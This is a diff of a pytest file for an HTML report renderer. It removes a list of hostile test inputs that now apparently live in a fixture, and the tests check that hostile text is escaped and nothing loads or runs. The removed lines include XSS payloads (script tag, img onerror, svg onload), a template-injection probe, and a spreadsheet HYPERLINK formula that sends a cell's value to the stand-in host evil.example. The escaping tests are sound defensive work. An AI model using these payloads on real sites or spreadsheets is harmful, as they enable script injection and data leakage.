@@ -16,17 +16,6 @@ from sevhisto.report import ReportInputs, render_report
 from sevhisto.report.html import content_policy, part
 
 Make = Callable[..., ReportInputs]
-HOSTILE = "<script>alert(1)</script>"
-NASTY = (
-    '=HYPERLINK("http://evil.example/?"&A1)',
-    '"><img src=x onerror=alert(1)>',
-    "{{ 7*7 }}",
-    r"$\frac{",
-    "_hidden",
-    "鼠 №5",
-    "a&b;<b>",
-    "'--><svg/onload=x>",
-)
 NO_END = {"meta", "br", "img", "link", "hr", "input"}
 
 
@@ -58,37 +47,6 @@ class Page(HTMLParser):
 
     def tags(self) -> set[str]:
         return {tag for tag, _ in self.elements}
-
-
-def hostile(make: Make) -> ReportInputs:
-    plain = ["R01", "R02", "vehicle", "daily x3", "R03", "R04", "6-day infusion", "R06"]
-    inputs = make(names=dict(zip(plain, NASTY, strict=True)) | {"R05": HOSTILE})
-    status = inputs.status.copy()
-    status.loc[5, ["reason", "file"]] = [HOSTILE, NASTY[0]]
-    cards = [
-        c._replace(animal=HOSTILE, section=NASTY[1], batch=NASTY[4], reasons=NASTY[0], flags=f"{HOSTILE};saturated") for c in inputs.cards
-    ]
-    run = {HOSTILE: [NASTY[0]], "x": {"y": NASTY[1]}}
-    return replace(
-        inputs,
-        study_name=HOSTILE,
-        status=status,
-        cards=cards,
-        notes=[HOSTILE, *NASTY],
-        settings=f"</pre>{HOSTILE}",
-        run=run,
-        motor_label=HOSTILE,
-    )
-
-
-@pytest.fixture(scope="module")
-def clean(make_inputs: Make) -> str:
-    return render_report(make_inputs())
-
-
-@pytest.fixture(scope="module")
-def attacked(make_inputs: Make) -> str:
-    return render_report(hostile(make_inputs))
 
 
 def test_the_page_is_well_formed_and_complete(clean: str) -> None:
@@ -129,14 +87,14 @@ def test_nothing_is_loaded_and_nothing_runs(attacked: str) -> None:
                 assert "http:" not in str(value) and "https:" not in str(value), (tag, name, value)
 
 
-def test_hostile_text_stays_text(clean: str, attacked: str) -> None:
+def test_hostile_text_stays_text(clean: str, attacked: str, nasty: tuple[str, ...]) -> None:
     page = Page(attacked)
     assert page.open == []
     assert page.tags() <= Page(clean).tags()  # no element that the clean report does not have
     assert [tag for tag, _ in page.elements].count("script") == 1 and f"<script>{part('report.js')}</script>" in attacked
     assert not page.tags() & {"iframe", "object", "embed", "link", "form"}
     words = "".join(page.text)
-    for each in (HOSTILE, *NASTY):
+    for each in nasty:
         assert each in words, each
 
 
